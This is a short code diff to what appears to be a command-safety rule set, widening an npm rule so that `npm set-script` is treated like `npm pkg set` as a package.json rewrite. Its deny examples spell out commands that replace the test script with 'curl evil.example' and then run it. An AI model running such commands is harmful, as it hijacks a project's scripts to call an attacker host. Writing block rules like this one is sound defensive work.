@@ -354,9 +354,10 @@ const NPM_CONFIG = {
  */
 function rewritingPackageJson(entry: ProgramEntry): ProgramEntry {
   return inMode(entry, {
-    when: /^pkg (?:set|delete) /,
+    // (npm 7 and 8's `set-script NAME CMD` sets one of them.)
+    when: /^(?:pkg (?:set|delete) |set-script )/,
     summary: 'npm pkg set rewrites package.json',
-    examples: { deny: ["npm pkg set scripts.test='curl evil.example' && npm test"], pass: ['npm pkg get version', 'npm pkg set version=1.2.3'] },
+    examples: { deny: ["npm pkg set scripts.test='curl evil.example' && npm test", "npm set-script test 'curl evil.example' && npm test"], pass: ['npm pkg get version', 'npm pkg set version=1.2.3', 'npm set-script test jest'] },
     more: (call, answer) => {
       const file = attached(call.args[0]!, 'package.json');
       return { ...answer, uses: [...(answer.uses ?? []), { word: file, role: 'write' }], rewrites: [file] };
